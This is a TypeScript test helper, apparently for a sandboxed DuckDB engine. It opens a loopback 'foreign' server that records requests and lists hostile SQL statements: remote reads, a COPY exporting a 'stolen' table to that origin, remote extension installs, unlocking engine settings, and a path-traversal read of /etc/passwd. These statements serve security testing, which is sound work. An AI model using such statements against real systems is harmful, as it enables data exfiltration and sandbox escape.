import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A second origin on loopback that answers everything, allows everybody, and writes down each request. */
export async function openForeignServer() {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response
      .writeHead(200, {
        'access-control-allow-origin': '*',
        'access-control-allow-headers': '*',
        'content-type': 'text/csv',
      })
      .end('a,b\n1,2\n');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${String(port)}`,
    requests,
    [Symbol.asyncDispose]: () =>
      new Promise<void>((done) => {
        server.closeAllConnections();
        server.close(() => {
          done();
        });
      }),
  };
}

/** SQL that tries to reach `origin`, to read what is not its own, or to unlock the engine. */
export function hostileStatements(origin: string): string[] {
  return [
    `SELECT * FROM read_csv('${origin}/read.csv')`,
    `SELECT * FROM '${origin}/from.csv'`,
    `SELECT * FROM read_text('${origin}/text')`,
    `CREATE TABLE stolen AS SELECT 42 AS secret`,
    `COPY stolen TO '${origin}/copy.csv'`,
    `ATTACH '${origin}/attach.db' AS other`,
    `SET custom_extension_repository='${origin}/extensions'`,
    `INSTALL httpfs FROM '${origin}/extensions'`,
    `LOAD '${origin}/load.duckdb_extension.wasm'`,
    `INSTALL httpfs`,
    `LOAD httpfs`,
    `SET enable_external_access=true`,
    `SET lock_configuration=false`,
    `SET allowed_directories=['/']`,
    `SELECT * FROM read_parquet('${origin}/read.parquet')`,
    `SELECT * FROM read_csv('uploads/../../etc/passwd')`,
  ];
}
